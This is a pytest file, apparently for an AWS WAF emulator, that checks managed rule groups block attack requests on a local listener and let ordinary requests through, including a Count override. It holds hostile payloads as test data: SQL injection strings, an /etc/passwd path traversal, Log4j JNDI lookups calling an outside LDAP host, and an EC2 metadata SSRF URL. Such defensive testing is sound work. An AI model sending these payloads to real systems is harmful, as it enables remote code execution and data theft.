"""AWS managed rule groups end to end with boto3: the groups on offer and their description,
web ACLs that use the core rule set, SQL database and known bad inputs groups on a real
listener in front of a local app, blocking Log4j, path traversal and SQL injection requests
and passing ordinary ones; a rule action override to Count that lets one through with its
label visible to a later rule (which tells the app through an inserted header)."""

import pytest
from botocore.exceptions import ClientError

from local_http import request, wait_for
from test_elb_waf import load_balancer, visibility

CRS = "AWSManagedRulesCommonRuleSet"
SQLI = "AWSManagedRulesSQLiRuleSet"
BAD_INPUTS = "AWSManagedRulesKnownBadInputsRuleSet"
BROWSER = {"Host": "shop.example.com",
           "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"}


def code(excinfo):
    return excinfo.value.response["Error"]["Code"]


def group_rule(name, priority, override="None", **statement):
    return {"Name": name, "Priority": priority, "OverrideAction": {override: {}},
            "VisibilityConfig": visibility(name),
            "Statement": {"ManagedRuleGroupStatement": dict(VendorName="AWS", Name=name,
                                                            **statement)}}


def test_the_managed_rule_groups_on_offer(server):
    waf = server.client("wafv2")
    groups = waf.list_available_managed_rule_groups(Scope="REGIONAL")["ManagedRuleGroups"]
    names = [g["Name"] for g in groups]
    assert {CRS, SQLI, BAD_INPUTS, "AWSManagedRulesAdminProtectionRuleSet",
            "AWSManagedRulesLinuxRuleSet", "AWSManagedRulesUnixRuleSet",
            "AWSManagedRulesPHPRuleSet", "AWSManagedRulesWindowsRuleSet",
            "AWSManagedRulesWordPressRuleSet"} == set(names)
    assert all(g["VendorName"] == "AWS" for g in groups)
    page = waf.list_available_managed_rule_groups(Scope="REGIONAL", Limit=2)
    assert len(page["ManagedRuleGroups"]) == 2 and "NextMarker" in page
    rest = waf.list_available_managed_rule_groups(Scope="REGIONAL", NextMarker=page["NextMarker"])
    assert [g["Name"] for g in page["ManagedRuleGroups"] + rest["ManagedRuleGroups"]] == names

    crs = waf.describe_managed_rule_group(VendorName="AWS", Name=CRS, Scope="REGIONAL")
    assert crs["Capacity"] == 700
    assert crs["LabelNamespace"] == "awswaf:managed:aws:core-rule-set:"
    rules = {r["Name"]: r["Action"] for r in crs["Rules"]}
    assert rules["NoUserAgent_HEADER"] == {"Block": {}}
    assert {"GenericLFI_QUERYARGUMENTS", "CrossSiteScripting_BODY", "EC2MetaDataSSRF_BODY",
            "SizeRestrictions_QUERYSTRING", "RestrictedExtensions_URIPATH"} <= set(rules)
    labels = {label["Name"] for label in crs["AvailableLabels"]}
    assert "awswaf:managed:aws:core-rule-set:NoUserAgent_Header" in labels
    assert "awswaf:managed:aws:core-rule-set:BadBots_Header" in labels
    assert crs["ConsumedLabels"] == []
    sqli = waf.describe_managed_rule_group(VendorName="AWS", Name=SQLI, Scope="REGIONAL")
    assert sqli["Capacity"] == 200
    assert "SQLi_QUERYARGUMENTS" in {r["Name"] for r in sqli["Rules"]}
    versions = waf.list_available_managed_rule_group_versions(
        VendorName="AWS", Name=BAD_INPUTS, Scope="REGIONAL")
    assert versions["CurrentDefaultVersion"] in [v["Name"] for v in versions["Versions"]]

    with pytest.raises(ClientError) as e:
        waf.describe_managed_rule_group(VendorName="AWS", Name="AWSManagedRulesNoSuchSet",
                                        Scope="REGIONAL")
    assert code(e) == "WAFNonexistentItemException"
    with pytest.raises(ClientError) as e:
        waf.describe_managed_rule_group(VendorName="Example", Name=CRS, Scope="REGIONAL")
    assert code(e) == "WAFNonexistentItemException"

    rules = [group_rule(CRS, 1), group_rule(SQLI, 2), group_rule(BAD_INPUTS, 3)]
    assert waf.check_capacity(Scope="REGIONAL", Rules=rules)["Capacity"] == 700 + 200 + 200
    with pytest.raises(ClientError) as e:
        waf.create_web_acl(Name="no-such-group", Scope="REGIONAL", DefaultAction={"Allow": {}},
                           VisibilityConfig=visibility("x"),
                           Rules=[group_rule("AWSManagedRulesNoSuchSet", 1)])
    assert code(e) == "WAFNonexistentItemException"
    with pytest.raises(ClientError) as e:
        waf.create_web_acl(Name="bad-exclusion", Scope="REGIONAL", DefaultAction={"Allow": {}},
                           VisibilityConfig=visibility("x"),
                           Rules=[group_rule(CRS, 1, ExcludedRules=[{"Name": "NoSuchRule"}])])
    assert code(e) == "WAFInvalidParameterException"


def test_managed_groups_filter_a_listeners_traffic(server, app):  # noqa: F811
    elb, lb, tg, listener, port = load_balancer(server, "web-m", app)
    waf = server.client("wafv2")
    rules = [group_rule(CRS, 1), group_rule(SQLI, 2), group_rule(BAD_INPUTS, 3)]
    acl = waf.create_web_acl(Name="managed-acl", Scope="REGIONAL", DefaultAction={"Allow": {}},
                             Rules=rules, VisibilityConfig=visibility("managed"))["Summary"]
    got = waf.get_web_acl(Name="managed-acl", Scope="REGIONAL", Id=acl["Id"])
    assert got["WebACL"]["Capacity"] == 1100
    assert got["WebACL"]["Rules"][0]["Statement"]["ManagedRuleGroupStatement"]["Name"] == CRS
    waf.associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=lb["LoadBalancerArn"])

    def status(path, headers=BROWSER, **kw):
        return request(port, path, headers=headers, **kw)[0]

    wait_for(lambda: status("/item?id=1%27%20OR%20%271%27%3D%271") == 403,
             what="web ACL in force")
    # Attacks: SQL injection, path traversal, Log4j, EC2 metadata, no user agent, scanner.
    assert status("/item?id=1%20UNION%20SELECT%20password%20FROM%20users") == 403
    assert status("/view?file=../../../etc/passwd") == 403
    assert status("/", headers=dict(BROWSER, **{"X-Api-Version": "${jndi:ldap://203.0.113.5/a}"})) == 403
    assert status("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fexample.com%2Fx%7D") == 403
    assert status("/fetch", method="POST",
                  body=b"url=http://169.254.169.254/latest/meta-data/") == 403
    assert status("/", headers={"Host": "shop.example.com"}) == 403
    assert status("/", headers=dict(BROWSER, **{"User-Agent": "sqlmap/1.7"})) == 403
    assert status("/", headers=dict(BROWSER, Host="localhost")) == 403
    # Ordinary requests.
    assert status("/") == 200
    assert status("/products/42?color=blue&q=red+shoes") == 200
    assert status("/item?id=42&name=John%20O%27Brien%20Smith") == 200
    assert status("/comment", method="POST", body=b"text=a nice cup of tea") == 200

    # The path traversal rule to Count, and a later rule that allows what it labels and
    # tells the app which label it saw.
    label = "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments"
    rules[0] = group_rule(CRS, 1, RuleActionOverrides=[
        {"Name": "GenericLFI_QUERYARGUMENTS", "ActionToUse": {"Count": {}}}])
    rules.append({"Name": "tell-app", "Priority": 10, "VisibilityConfig": visibility("tell"),
                  "Statement": {"LabelMatchStatement": {"Scope": "LABEL", "Key": label}},
                  "Action": {"Allow": {"CustomRequestHandling": {"InsertHeaders": [
                      {"Name": "label", "Value": "GenericLFI_QueryArguments"}]}}}})
    token = waf.get_web_acl(Name="managed-acl", Scope="REGIONAL", Id=acl["Id"])["LockToken"]
    waf.update_web_acl(Name="managed-acl", Scope="REGIONAL", Id=acl["Id"], LockToken=token,
                       DefaultAction={"Allow": {}}, Rules=rules,
                       VisibilityConfig=visibility("managed"))
    wait_for(lambda: status("/view?file=../../../etc/passwd") == 200, what="override in force")
    echoed = request(port, "/view?file=../../../etc/passwd", headers=BROWSER)[2]
    assert b'"x-amzn-waf-label": "GenericLFI_QueryArguments"' in echoed
    # The other rules still block.
    assert status("/item?id=1%20UNION%20SELECT%20password%20FROM%20users") == 403
    assert status("/", headers={"Host": "shop.example.com"}) == 403
    assert b"x-amzn-waf-label" not in request(port, "/", headers=BROWSER)[2]

    # Leave the shared server as found.
    waf.disassociate_web_acl(ResourceArn=lb["LoadBalancerArn"])
    token = waf.get_web_acl(Name="managed-acl", Scope="REGIONAL", Id=acl["Id"])["LockToken"]
    waf.delete_web_acl(Name="managed-acl", Scope="REGIONAL", Id=acl["Id"], LockToken=token)
